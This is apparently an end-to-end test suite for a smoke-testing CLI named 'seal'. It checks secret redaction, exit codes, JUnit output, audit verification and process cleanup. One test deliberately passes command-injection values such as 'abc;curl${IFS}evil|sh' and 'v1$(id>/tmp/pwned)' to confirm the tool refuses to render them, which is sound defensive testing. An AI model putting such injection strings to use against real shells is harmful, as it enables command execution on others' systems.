// End to end through the real ./bin/seal: exit codes, stdout/stderr discipline, files, secrets.
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { RunResult } from '../src/runner/run-result.js';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { chromiumSkipReason } from './helpers/chromium.js';
import { ROOT, runCli } from './helpers/cli.js';
import { sandboxSkipReason } from './helpers/sandbox.js';
import { reply, startServer, type TestServer } from './helpers/servers.js';

const SECRET = 'tok-e2e-5ecret-value';
const chromiumMissing = await chromiumSkipReason();
const sandboxSkip = await sandboxSkipReason();
let prod: TestServer;
let dir: string;

/**
 * True when a process has ended: no such process, or a zombie (dead, waiting to be reaped: a
 * probe in the network sandbox is orphaned when its launcher is killed with it).
 */
function isGone(pid: number): boolean {
  try {
    process.kill(pid, 0);
  } catch {
    return true;
  }
  const stat = existsSync(`/proc/${pid}/stat`) ? readFileSync(`/proc/${pid}/stat`, 'utf8') : '';
  return / Z /.test(stat.slice(stat.lastIndexOf(')') + 1, stat.lastIndexOf(')') + 4));
}

function writeConfig(name: string, document: unknown): string {
  const path = join(dir, name);
  writeFileSync(path, typeof document === 'string' ? document : stringify(document));
  return path;
}

let greenConfig: string;
let redConfig: string;
let errorConfig: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'seal-cli-'));
  prod = await startServer((req, res) => {
    if (req.url === '/me') return reply(res, req.headers.authorization === `Bearer ${SECRET}` ? 200 : 401, `hello ${req.headers.authorization ?? ''}`);
    if (req.url === '/devops') return reply(res, 200, 'console');
    // Echoes the credential it was sent in other forms: encoded in a redirect, base64 and upper case in the body.
    if (req.url === '/echo') {
      const sent = (req.headers.authorization ?? '').replace(/^Bearer /, '');
      return reply(res, 302, `seen ${Buffer.from(`user:${sent}`).toString('base64')} ${sent.toUpperCase()} ${encodeURIComponent(`${sent}/x`)}`, { location: `/login?next=${encodeURIComponent(`/cb?t=${sent}`)}&t64=${Buffer.from(sent).toString('base64url')}` });
    }
    return reply(res, 200, 'OK');
  });
  const checks = [
    { name: 'up', http: '/up', expect: { status: 200, body_contains: 'OK' } },
    { name: 'me', http: { path: '/me', headers: { Authorization: 'Bearer ${SMOKE_TOKEN}' } }, expect: { status: 200 } },
  ];
  greenConfig = writeConfig('green.yaml', { apps: { studio: { production_url: prod.url, checks } } });
  redConfig = writeConfig('red.yaml', { apps: { studio: { production_url: prod.url, checks: [...checks, { name: 'devops hidden', http: '/devops', expect: { status: 404 } }] } } });
  errorConfig = writeConfig('error.yaml', { apps: { studio: { production_url: prod.url, checks: [checks[0], { name: 'page', browser: '/' }] } } });
});
afterAll(() => prod.close());

// The ledger these runs record into: the file's own, not the checkout's .seal/.
const env = { SMOKE_TOKEN: SECRET, SEAL_DATA_DIR: mkdtempSync(join(tmpdir(), 'seal-cli-data-')) };

describe('seal smoke', () => {
  it('--json prints exactly one JSON document on stdout and the human report on stderr', async () => {
    const run = await runCli(['smoke', 'studio', '--config', redConfig, '--json', '--release', 'v3.3.0', '--merge-sha', 'abc123'], { env });
    expect(run.code).toBe(0);
    const result = JSON.parse(run.stdout) as Record<string, unknown>;
    expect(result).toMatchObject({ app: 'studio', base_url: prod.url, verdict: 'red', summary: "2/3 passed; 'devops hidden' failed: status 200, expected 404", release: { version: 'v3.3.0', merge_sha: 'abc123' }, rollback: 'git revert -m 1 abc123', blocked_requests: [] });
    expect(Object.keys(result)).toEqual(expect.arrayContaining(['started_at', 'finished_at', 'duration_ms', 'checks']));
    expect(run.stderr).toContain('Seal: 🔴 red');
    expect(run.stderr).toContain('    git revert -m 1 abc123');
  });

  it('a secret production echoes back encoded (URL-encoded, base64, base64url, upper case) is redacted from stdout, stderr and JUnit', async () => {
    const echo = writeConfig('echo.yaml', { apps: { studio: { production_url: prod.url, checks: [{ name: 'echo', http: { path: '/echo', headers: { Authorization: 'Bearer ${SMOKE_TOKEN}' }, follow_redirects: false }, expect: { status: 200 } }] } } });
    const junit = join(dir, 'echo-junit.xml');
    const run = await runCli(['smoke', 'studio', '--config', echo, '--json', '--junit', junit], { env });
    const result = JSON.parse(run.stdout) as RunResult;
    expect(result.verdict).toBe('red');
    const forms = [SECRET, SECRET.toUpperCase(), encodeURIComponent(`/cb?t=${SECRET}`), Buffer.from(SECRET).toString('base64url'), Buffer.from(`user:${SECRET}`).toString('base64').slice(8, -4)];
    for (const text of [run.stdout, run.stderr, readFileSync(junit, 'utf8')]) for (const form of forms) expect(text).not.toContain(form);
    expect(run.stdout).toContain('[REDACTED]');
  });

  it('a hostile --release and --merge-sha never become a command to paste: none is printed, and the warning says why', async () => {
    const hostile = writeConfig('hostile-rollback.yaml', { apps: { studio: { production_url: prod.url, rollback: 'git revert -m 1 {merge_sha} && deploy --to {version}', checks: [{ name: 'devops hidden', http: '/devops', expect: { status: 404 } }] } } });
    const run = await runCli(['smoke', 'studio', '--config', hostile, '--json', '--release', 'v1$(id>/tmp/pwned)', '--merge-sha', 'abc;curl${IFS}evil|sh'], { env });
    expect(run.code).toBe(0);
    const result = JSON.parse(run.stdout) as { verdict: string; rollback: string | null; warnings: string[] };
    expect(result.verdict).toBe('red');
    expect(result.rollback).toBeNull();
    expect(result.warnings).toContainEqual(expect.stringContaining('values a shell would not run or split: {merge_sha} is "abc;curl${IFS}evil|sh", {version} is "v1$(id>/tmp/pwned)"'));
    expect(run.stderr).toContain('No rollback command could be rendered');
    expect(run.stderr).not.toMatch(/^ {4}git revert/m);
  });

  it('never lets a secret from ${VAR} reach stdout, stderr or the JUnit file', async () => {
    const junit = join(dir, 'secret-junit.xml');
    const run = await runCli(['smoke', 'studio', '--config', redConfig, '--json', '--junit', junit], { env });
    expect(run.stdout).toContain('hello Bearer [REDACTED]');
    for (const text of [run.stdout, run.stderr, readFileSync(junit, 'utf8')]) expect(text).not.toContain(SECRET);
  });

  it.each([
    ['green', () => greenConfig, 0],
    ['red', () => redConfig, 1],
    ['error', () => errorConfig, 2],
  ] as const)('--gate exits by verdict: %s', async (verdict, config, code) => {
    // The error case is a browser check with no browser to run it.
    const gated = await runCli(['smoke', 'studio', '--config', config(), '--gate', '--json'], { env: { ...env, SEAL_CHROMIUM: '/nonexistent/chromium' } });
    expect(JSON.parse(gated.stdout)).toMatchObject({ verdict });
    expect(gated.code).toBe(code);
    const ungated = await runCli(['smoke', 'studio', '--config', config()], { env: { ...env, SEAL_CHROMIUM: '/nonexistent/chromium' } });
    expect(ungated.code).toBe(0);
  });

  it('redacts a token in production_url\'s query from the terminal, JSON and JUnit output', async () => {
    const config = writeConfig('token-url.yaml', { apps: { studio: { production_url: `${prod.url}/?token=url-secret-123`, checks: [{ name: 'up', http: '/up' }] } } });
    const junit = join(dir, 'token-junit.xml');
    const run = await runCli(['smoke', 'studio', '--config', config, '--json', '--junit', junit]);
    expect(run.stderr).toContain(`Sealing studio against ${prod.url}/?token=[REDACTED]`);
    for (const text of [run.stdout, run.stderr, readFileSync(junit, 'utf8')]) expect(text).not.toContain('url-secret-123');
  });

  it('--junit writes one testcase per check', async () => {
    const junit = join(dir, 'junit.xml');
    await runCli(['smoke', 'studio', '--config', redConfig, '--junit', junit], { env });
    const xml = readFileSync(junit, 'utf8');
    expect(xml.match(/<testcase /g)).toHaveLength(3);
    expect(xml).toContain('<failure message="status 200, expected 404" type="assertion">');
  });

  it('an unwritable --junit path is a warning; the verdict stands and the exit is 0', async () => {
    const run = await runCli(['smoke', 'studio', '--config', greenConfig, '--json', '--junit', join(dir, 'no', 'such', 'dir', 'j.xml')], { env });
    expect(run.code).toBe(0);
    const result = JSON.parse(run.stdout) as { verdict: string; warnings: string[] };
    expect(result.verdict).toBe('green');
    expect(result.warnings).toEqual([expect.stringMatching(/^could not write the JUnit report to .*ENOENT/)]);
  });

  it('an invalid config is an error verdict naming the problem, exit 0 (2 with --gate)', async () => {
    const bad = writeConfig('bad.yaml', { apps: { studio: { production_url: prod.url, checks: [{ name: 'x', http: { path: '/', method: 'POST' } }] } } });
    const run = await runCli(['smoke', 'studio', '--config', bad, '--json']);
    expect(run.code).toBe(0);
    const result = JSON.parse(run.stdout) as { verdict: string; summary: string };
    expect(result.verdict).toBe('error');
    expect(result.summary).toContain('apps.studio.checks[0].http.method: method POST is refused: the smoke suite is read-only');
    expect((await runCli(['smoke', 'studio', '--config', bad, '--gate'])).code).toBe(2);
  });

  it('an unknown app is an error verdict that lists the known apps', async () => {
    const run = await runCli(['smoke', 'nope', '--config', greenConfig, '--json'], { env });
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ verdict: 'error', summary: `could not verify: app "nope" is not in ${greenConfig} (apps: studio)` });
  });

  it('a broken config or an unknown app records nothing: no release is created, the latest stays; under GitHub Actions an ::error:: annotation', async () => {
    const data = { ...env, SEAL_DATA_DIR: mkdtempSync(join(tmpdir(), 'seal-cli-broken-')) };
    expect((await runCli(['smoke', 'studio', '--config', greenConfig, '--release', 'v1'], { env: data })).code).toBe(0);
    const broken = writeConfig('broken.yaml', `apps:\n  studio:\n    production_url: ${prod.url}\n    checks: [ { name: up, http: /up, expect: { status: "two hundred" } } ]\n`);
    const run = await runCli(['smoke', 'studio', '--config', broken, '--release', 'vbad', '--json'], { env: { ...data, GITHUB_ACTIONS: 'true' } });
    expect(run.code).toBe(0);
    const result = JSON.parse(run.stdout) as { verdict: string; summary: string; warnings: string[] };
    expect(result.verdict).toBe('error');
    expect(result.warnings).toContain('nothing was recorded: the config did not load or does not name the app, so no release was created or changed');
    const annotation = run.stderr.split('\n').find((line) => line.startsWith('::error '));
    expect(annotation).toMatch(/^::error title=seal smoke studio::could not verify: .*apps\.studio\.checks\[0\]\.expect\.status/);
    expect(JSON.parse(run.stdout)).toBeTruthy();
    const unknown = await runCli(['smoke', 'nope', '--config', greenConfig, '--release', 'vnope', '--json'], { env: data });
    expect((JSON.parse(unknown.stdout) as { verdict: string }).verdict).toBe('error');
    expect(unknown.stderr).not.toContain('::error');
    const list = await runCli(['release', 'list', 'studio', '--json'], { env: data });
    expect((JSON.parse(list.stdout) as { releases: { version: string }[] }).releases.map((r) => r.version)).toEqual(['v1']);
    expect((await runCli(['release', 'show', 'nope', 'vnope', '--json'], { env: data })).code).toBe(1);
    // The next run without --release seals v1, not a release a broken config made.
    const next = await runCli(['smoke', 'studio', '--config', greenConfig, '--json'], { env: data });
    expect((JSON.parse(next.stdout) as { release: { version: string } }).release.version).toBe('v1');
  });

  it('finds the config through SEAL_CONFIG, and seal.config.yaml in the working directory', async () => {
    const viaEnv = await runCli(['smoke', 'studio', '--json'], { env: { ...env, SEAL_CONFIG: greenConfig } });
    expect(JSON.parse(viaEnv.stdout)).toMatchObject({ verdict: 'green' });
    const cwd = mkdtempSync(join(tmpdir(), 'seal-cwd-'));
    writeFileSync(join(cwd, 'seal.config.yaml'), readFileSync(greenConfig));
    const viaCwd = await runCli(['smoke', 'studio', '--json'], { env, cwd });
    expect(JSON.parse(viaCwd.stdout)).toMatchObject({ verdict: 'green' });
  });

  it('always reports a release object, with null for what nobody said', async () => {
    // A ledger of its own: with no release recorded and no CI commit, nobody said anything.
    const run = await runCli(['smoke', 'studio', '--config', greenConfig, '--json'], { env: { ...env, SEAL_DATA_DIR: mkdtempSync(join(tmpdir(), 'seal-data-')) }, timeoutMs: 60_000 });
    expect(JSON.parse(run.stdout)).toMatchObject({ release: { version: null, sha: null, merge_sha: null, previous_version: null } });
  });

  it('keeps a ${VAR} value out of check names and out of config errors', async () => {
    const named = writeConfig('named.yaml', { apps: { studio: { production_url: prod.url, checks: [{ name: 'me as ${SMOKE_TOKEN}', http: '/up' }] } } });
    const run = await runCli(['smoke', 'studio', '--config', named, '--json'], { env });
    expect(run.stderr).toContain('me as [REDACTED]');
    expect(run.stdout + run.stderr).not.toContain(SECRET);
    const broken = writeConfig('broken-secret.yaml', { apps: { studio: { production_url: prod.url, checks: [{ name: 'x', http: { path: '/', headers: 'Authorization: ${SMOKE_TOKEN}' } }] } } });
    for (const args of [['config', 'check', '--config', broken], ['smoke', 'studio', '--config', broken, '--json']]) {
      const out = await runCli(args, { env });
      expect(out.stdout + out.stderr).toContain('[REDACTED]');
      expect(out.stdout + out.stderr).not.toContain(SECRET);
    }
  });

  it('refuses credentials in a URL (production_url, smoke_url, a check\'s URL) with how to send them, and never prints them', async () => {
    const host = new URL(prod.url).host;
    const withUserinfo = writeConfig('userinfo.yaml', { apps: { studio: { production_url: `http://\${SMOKE_TOKEN}@${host}`, smoke_url: `http://ops:\${SMOKE_TOKEN}@${host}/up`, checks: [{ name: 'up', http: `http://me:\${SMOKE_TOKEN}@${host}/up` }] } } });
    const check = await runCli(['config', 'check', '--config', withUserinfo, '--json'], { env });
    expect(check.code).toBe(1);
    const report = JSON.parse(check.stdout) as { errors: { path: string; message: string }[] };
    expect(report.errors.map((e) => e.path)).toEqual(['apps.studio.production_url', 'apps.studio.smoke_url', 'apps.studio.checks[0].http']);
    expect(report.errors[0]?.message).toMatch(/^holds credentials \(user:password@\): they are not sent.*headers: \{ authorization: "Basic \$\{BASIC_AUTH\}" \}/);
    const smoke = await runCli(['smoke', 'studio', '--config', withUserinfo, '--json', '--junit', join(dir, 'userinfo.xml')], { env });
    expect(smoke.code).toBe(0);
    expect(JSON.parse(smoke.stdout)).toMatchObject({ verdict: 'error', summary: expect.stringContaining('holds credentials') });
    for (const text of [check.stdout, check.stderr, smoke.stdout, smoke.stderr, readFileSync(join(dir, 'userinfo.xml'), 'utf8')]) expect(text).not.toContain(SECRET);
  });

  it('on a real terminal, colours the output unless NO_COLOR is set', async () => {
    // script(1) gives the CLI a pseudo-terminal, as a person at a shell would.
    const inPty = (extra: string) => runCli([], { env: { ...env, TERM: 'xterm-256color' }, shell: `script -qec "${extra} ${process.execPath} bin/seal smoke studio --config ${redConfig}" /dev/null` });
    const coloured = await inPty('');
    const SGR_COLOUR = new RegExp(String.raw`\u001b\[3\dm`);
    const SGR_ANY = new RegExp(String.raw`\u001b\[\d+m`);
    expect(coloured.stdout).toMatch(SGR_COLOUR);
    const plain = await inPty('NO_COLOR=1');
    expect(plain.stdout).toContain('Seal: 🔴 red');
    expect(plain.stdout).not.toMatch(SGR_ANY);
  });

  it('with no release in the ledger, records one from the CI environment\'s commit and seals it', async () => {
    const data = mkdtempSync(join(tmpdir(), 'seal-data-'));
    const sha = 'feedface0123456789abcdef0123456789abcdef';
    const run = await runCli(['smoke', 'studio', '--config', greenConfig, '--json'], { env: { ...env, GITHUB_SHA: sha, GITHUB_REF_NAME: 'main', SEAL_DATA_DIR: data }, timeoutMs: 60_000 });
    const result = JSON.parse(run.stdout) as RunResult;
    expect(result).toMatchObject({ verdict: 'green', release: { sha, version: 'feedface0123' }, warnings: [] });
    const show = await runCli(['release', 'show', 'studio', 'feedface0123', '--json'], { env: { SEAL_DATA_DIR: data }, timeoutMs: 60_000 });
    expect(JSON.parse(show.stdout)).toMatchObject({ sha, branch: 'main', smoke_seal: { status: 'green', run_id: result.run_id }, seal_history: [{ run_id: result.run_id }] });
  });

  it('an HTTP suite\'s seal does not load Node\'s own fetch: undici\'s index (and with it Node\'s internal copy of undici) stays out of start-up', async () => {
    // Node's internal undici is loaded the first time anything reads globalThis.fetch, Headers or
    // the like; undici's index did so at start-up (its cookies module), costing every seal ~50 ms.
    const hook = join(dir, 'loaded-modules.mjs');
    writeFileSync(hook, "import { writeSync } from 'node:fs';\nprocess.on('exit', () => writeSync(2, `node-internal-undici: ${process.moduleLoadList.some((m) => m.includes('internal/deps/undici')) ? 'loaded' : 'not loaded'}\\n`));\n");
    const run = await runCli(['smoke', 'studio', '--config', greenConfig, '--json', '--release', 'v-modules'], { env: { ...env, NODE_OPTIONS: `--import ${pathToFileURL(hook).href}` } });
    expect(run.code).toBe(0);
    expect((JSON.parse(run.stdout) as RunResult).verdict).toBe('green');
    expect(run.stderr).toContain('node-internal-undici: not loaded');
  });

  it('writes no escape codes to a pipe', async () => {
    const run = await runCli(['smoke', 'studio', '--config', redConfig], { env: { ...env, FORCE_COLOR: '1' } });
    expect(run.stderr).not.toContain('\x1b');
  });
});

describe('every check kind through the built CLI (dist/, as users run it)', () => {
  it('an exec probe runs behind its guard: the read passes, the write is blocked', async () => {
    const config = writeConfig('exec.yaml', { apps: { studio: { production_url: prod.url, checks: [
      { name: 'probe', exec: { command: ['sh', '-c', `curl -sS ${prod.url}/up && curl -sS -o /dev/null -w ' post:%{http_code}' -X POST ${prod.url}/api`] }, expect: { stdout_contains: ['OK', 'post:204'] } },
    ] } } });
    const run = await runCli(['smoke', 'studio', '--config', config, '--json'], { env: { SEAL_DATA_DIR: join(dir, 'data') } });
    const result = JSON.parse(run.stdout) as { verdict: string; checks: { status: string; error: string | null }[]; blocked_requests: unknown[] };
    expect(result.checks[0], run.stderr).toMatchObject({ status: 'passed', error: null });
    expect(result.blocked_requests).toEqual([{ check: 'probe', method: 'POST', url: `${prod.url}/api` }]);
  });

  it('a secret that a shell splits at its "&" (sh -c "echo ${T}") is redacted piece by piece', async () => {
    const split = 'Tr0ub4dor&3/xyz+Q';
    const config = writeConfig('shell-split.yaml', { apps: { studio: { production_url: prod.url, network_sandbox: 'off', checks: [{ name: 'echo', exec: { command: ['sh', '-c', 'echo ${SPLIT_SECRET}'] }, expect: { stdout_contains: 'never printed' } }] } } });
    const run = await runCli(['smoke', 'studio', '--config', config, '--json'], { env: { ...env, SPLIT_SECRET: split } });
    const result = JSON.parse(run.stdout) as RunResult;
    expect(result.checks[0]?.status).toBe('failed');
    // The shell ran `echo Tr0ub4dor` and then tried `3/xyz+Q` as a command: both halves were printed.
    expect(JSON.stringify(result.checks[0]?.evidence)).toContain('[REDACTED]');
    for (const piece of ['Tr0ub4dor', '3/xyz+Q']) expect(run.stdout + run.stderr).not.toContain(piece);
  });

  it.skipIf(chromiumMissing !== null)('a secret in a browser check\'s URL is in no byte under the run\'s evidence folder, Playwright\'s trace unpacked included; the run hashes each file, and seal audit verify names one changed on disk', async () => {
    const data = join(dir, 'trace-data');
    const config = writeConfig('trace-secret.yaml', { apps: { studio: { production_url: prod.url, checks: [{ name: 'page', browser: '/up?token=${SMOKE_TOKEN}', expect: { text_contains: 'not on the page' } }] } } });
    const run = await runCli(['smoke', 'studio', '--config', config, '--json'], { env: { ...env, SEAL_DATA_DIR: data }, timeoutMs: 90_000 });
    const result = JSON.parse(run.stdout) as RunResult;
    expect(result.checks[0]?.status).toBe('failed');
    const trace = result.checks[0]?.evidence.trace as string;
    expect(trace.endsWith('.trace.zip')).toBe(true);
    const { unzipSync } = await import('fflate');
    // Every file of the run's evidence, and every entry of every zip in it.
    const stack = [result.evidence_dir as string];
    let seen = 0;
    while (stack.length > 0) {
      const path = stack.pop() as string;
      for (const name of readdirSync(path, { withFileTypes: true })) {
        const full = join(path, name.name);
        if (name.isDirectory()) stack.push(full);
        else {
          const bytes = readFileSync(full);
          const all = [bytes, ...(name.name.endsWith('.zip') ? Object.values(unzipSync(bytes)).map((e) => Buffer.from(e)) : [])];
          for (const part of all) {
            seen++;
            expect(part.toString('latin1')).not.toContain(SECRET);
            expect(part.toString('latin1')).not.toContain(encodeURIComponent(SECRET));
          }
        }
      }
    }
    // The trace really was unpacked and looked into (it has a dozen entries or more).
    expect(seen).toBeGreaterThan(5);
    expect(Object.keys(unzipSync(readFileSync(trace)))).toContain('trace.trace');

    // The run lists every evidence file with its SHA-256 as it left it (redacted), and
    // `seal audit verify` hashes them again: a trace changed on disk, or the seal changed in the
    // database, is named.
    const listed = result.evidence_files ?? [];
    expect(listed.map((f) => f.path)).toEqual(expect.arrayContaining([trace.slice((result.evidence_dir as string).length + 1)]));
    for (const file of listed) expect(file.sha256).toBe(createHash('sha256').update(readFileSync(join(result.evidence_dir as string, file.path))).digest('hex'));
    const audit = (args: string[]) => runCli(['audit', ...args], { env: { ...env, SEAL_DATA_DIR: data } });
    const clean = await audit(['verify']);
    expect(clean.code, clean.stderr).toBe(0);
    expect(clean.stdout).toContain(`evidence files on this disk: ${listed.length} hashed`);
    expect(clean.stdout).toContain('✓ the audit log verifies');
    writeFileSync(trace, Buffer.concat([readFileSync(trace), Buffer.from('x')]));
    const changed = await audit(['verify']);
    expect(changed.code).toBe(1);
    expect(changed.stdout).toContain(`first: evidence file ${trace.slice((result.evidence_dir as string).length + 1)} of seal ${result.run_id} (studio`);
    expect(changed.stdout).toContain('was changed since the seal');
    const { PGlite } = await import('@electric-sql/pglite');
    const db = await PGlite.create(join(data, 'db'));
    await db.query("UPDATE seal_runs SET verdict = 'green'");
    await db.close();
    const edited = JSON.parse((await audit(['verify', '--json'])).stdout) as { ok: boolean; problems: { type: string; message: string }[] };
    expect(edited.ok).toBe(false);
    expect(edited.problems.map((p) => p.type).sort()).toEqual(['file', 'row']);
    expect(edited.problems.find((p) => p.type === 'row')?.message).toMatch(new RegExp(`^seal ${result.run_id} of studio( \\S+)? was changed outside smoke-seal since event #\\d+`));
    const log = await audit(['log', 'studio']);
    expect(log.stdout).toMatch(/SEQ\s+AT \(UTC\)\s+WHO\s+WHAT\s+DETAIL\s+HASH/);
    expect(log.stdout).toMatch(/seal [0-9a-f]{8} recorded/);
  });

  it.skipIf(chromiumMissing !== null)('on a full disk: the lost screenshot is a warning naming the check, the store\'s warning names the cause (never [object Object]), the verdict stands', async () => {
    // A 1 MiB tmpfs, filled, as the data directory: in a user and mount namespace of the test's own.
    const full = join(dir, 'full-disk');
    mkdirSync(full, { recursive: true });
    const config = writeConfig('full-disk.yaml', { apps: { studio: { production_url: prod.url, checks: [{ name: 'page', browser: '/up', expect: { text_contains: 'not on the page' } }] } } });
    const inner = `mount -t tmpfs -o size=1m tmpfs ${full} && mkdir ${full}/data && (dd if=/dev/zero of=${full}/fill bs=64k count=64 2>/dev/null; true) && exec ${process.execPath} ${join(ROOT, 'bin/seal')} smoke studio --config ${config} --json`;
    const run = await runCli([], { env: { SEAL_DATA_DIR: join(full, 'data'), SEAL_RECORD_TIMEOUT_MS: '10000' }, shell: `unshare -rm sh -c '${inner}'`, timeoutMs: 90_000 });
    expect(run.code).toBe(0);
    const result = JSON.parse(run.stdout) as RunResult;
    expect(result.verdict).toBe('red');
    expect(result.checks[0]?.status).toBe('failed');
    expect(result.warnings).toContainEqual(expect.stringMatching(/^check "page": (the screenshot could not be kept|no screenshot or trace could be kept): .*(ENOSPC|no space)/i));
    expect(run.stdout + run.stderr).not.toContain('[object Object]');
    expect(run.stderr).toMatch(/warning: the seal was not recorded in the embedded store .*(ENOSPC|no space)/i);
  });

  it.skipIf(chromiumMissing !== null)('a browser check and a team spec run from the built CLI', async () => {
    const team = fileURLToPath(new URL('fixtures/team/', import.meta.url));
    const config = join(team, '.seal-cli-test.yaml');
    writeFileSync(config, stringify({ apps: { studio: { production_url: prod.url, checks: [
      { name: 'page', browser: '/up', expect: { text_contains: 'OK' } },
      { name: 'qa', playwright: { spec: 'e2e/failing.spec.js' } },
    ] } } }));
    try {
      const run = await runCli(['smoke', 'studio', '--config', config, '--json'], { env: { SEAL_DATA_DIR: join(dir, 'data') }, timeoutMs: 60_000 });
      const result = JSON.parse(run.stdout) as { checks: { name: string; status: string; error: string | null }[] };
      expect(result.checks.map((c) => [c.name, c.status, c.error])).toEqual([
        ['page', 'passed', null],
        ['qa › expects a page that is gone @qa-readonly', 'failed', null],
      ]);
    } finally {
      rmSync(config, { force: true });
    }
  }, 90_000);
});

/** Host pids of live (not zombie) processes whose command line holds `marker`. */
function pidsOf(marker: string): number[] {
  return readdirSync('/proc')
    .filter((entry) => /^\d+$/.test(entry))
    .filter((entry) => {
      try {
        return readFileSync(`/proc/${entry}/cmdline`, 'utf8').replaceAll('\0', ' ').includes(marker);
      } catch {
        return false;
      }
    })
    .map(Number)
    .filter((pid) => !isGone(pid));
}

/** Waits, at most ~10 s, until `done()` holds; returns whether it did. */
async function until(done: () => boolean): Promise<boolean> {
  for (let i = 0; i < 200 && !done(); i++) await new Promise((resolve) => setTimeout(resolve, 50));
  return done();
}

describe('interrupting seal smoke', () => {
  /** A run whose probe leaves a background process and waits on another, both marked by `marker`. */
  function startSlowRun(name: string, marker: string, sandbox: 'auto' | 'off' = 'auto') {
    const config = writeConfig(`${name}.yaml`, { apps: { studio: { production_url: prod.url, network_sandbox: sandbox, checks: [
      { name: 'slow probe', exec: { command: ['sh', '-c', `sleep ${marker}1 & exec sleep ${marker}2`], timeout_ms: 60_000 } },
    ] } } });
    const child = spawn(process.execPath, [join(ROOT, 'bin/seal'), 'smoke', 'studio', '--config', config, '--json'], { env: { PATH: process.env.PATH, SEAL_DATA_DIR: join(dir, 'data') } });
    let stdout = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    const closed = new Promise<number | null>((resolve) => child.on('close', resolve));
    return { child, closed, stdout: () => stdout };
  }

  it.each(['auto', 'off'] as const)('SIGTERM ends the run with an error verdict and kills the probe\'s processes (network_sandbox: %s)', async (sandbox) => {
    const marker = `${3000 + Math.floor(Math.random() * 1000)}.`;
    const run = startSlowRun(`sigterm-${sandbox}`, marker, sandbox);
    expect(await until(() => pidsOf(`sleep ${marker}`).length === 2)).toBe(true);
    run.child.kill('SIGTERM');
    expect(await run.closed).toBe(0);
    expect(JSON.parse(run.stdout())).toMatchObject({ verdict: 'error', checks: [{ name: 'slow probe', status: 'error', error: 'cut short: the run was interrupted' }] });
    expect(await until(() => pidsOf(`sleep ${marker}`).length === 0)).toBe(true);
  });

  it.skipIf(sandboxSkip !== null)('kill -9 of seal smoke during a probe leaves none of the probe\'s processes running (the sandbox\'s PID namespace)', async () => {
    const marker = `${4000 + Math.floor(Math.random() * 1000)}.`;
    const run = startSlowRun('sigkill', marker);
    expect(await until(() => pidsOf(`sleep ${marker}`).length === 2)).toBe(true);
    run.child.kill('SIGKILL');
    await run.closed;
    expect(await until(() => pidsOf(`sleep ${marker}`).length === 0)).toBe(true);
  });

  it('without the sandbox too, kill -9 of seal smoke leaves none of the probe\'s processes running (its supervisor takes the group along)', async () => {
    const marker = `${6000 + Math.floor(Math.random() * 1000)}.`;
    const run = startSlowRun('sigkill-off', marker, 'off');
    expect(await until(() => pidsOf(`sleep ${marker}`).length === 2)).toBe(true);
    run.child.kill('SIGKILL');
    await run.closed;
    const gone = await until(() => pidsOf(`sleep ${marker}`).length === 0);
    for (const pid of pidsOf(`sleep ${marker}`)) process.kill(pid, 'SIGKILL');
    expect(gone).toBe(true);
  });
});

describe('seal config', () => {
  it('check prints every problem with its path and exits 1', async () => {
    const bad = writeConfig('check-bad.yaml', { apps: { acme: { production_url: 'https://acme.example.com', concurrency: 0, checks: [{ name: 'a', http: '/', expect: { status: 'ok' } }, { name: 'a', http: '/' }] } } });
    const run = await runCli(['config', 'check', '--config', bad]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('error: apps.acme.checks[0].expect.status: expected a number or a list of numbers');
    expect(run.stderr).toContain('error: apps.acme.concurrency: expected a number above 0');
    expect(run.stderr).toContain(`${bad}: 2 errors`);
  });

  it('check reports lint errors (after the schema passes) all together', async () => {
    const bad = writeConfig('check-lint.yaml', { apps: { acme: { production_url: 'https://acme.example.com', notify: ['x'], checks: [{ name: 'a', http: '/' }, { name: 'a', http: '/' }] } } });
    const run = await runCli(['config', 'check', '--config', bad, '--json']);
    expect(run.code).toBe(1);
    expect(JSON.parse(run.stdout)).toMatchObject({ ok: false, errors: [{ path: 'apps.acme.notify[0]' }, { path: 'apps.acme.checks[1].name' }] });
  });

  it('check exits 0 with warnings only', async () => {
    const warned = writeConfig('check-warn.yaml', { apps: { acme: { production_url: 'https://acme.example.com', smoke_url: 'https://other.example.com/up' } } });
    const run = await runCli(['config', 'check', '--config', warned, '--json']);
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ ok: true, errors: [], warnings: [{ path: 'apps.acme.smoke_url' }] });
    expect(run.stderr).toContain('ok (1 app, 1 check, 1 warning)');
  });

  it('check names a missing config file and what to do', async () => {
    const run = await runCli(['config', 'check', '--config', join(dir, 'absent.yaml')]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('config file not found');
  });

  it('schema prints the JSON Schema', async () => {
    const run = await runCli(['config', 'schema']);
    expect(run.code).toBe(0);
    expect(JSON.parse(run.stdout)).toMatchObject({ $schema: 'https://json-schema.org/draft/2020-12/schema', title: 'smoke-seal configuration' });
  });
});
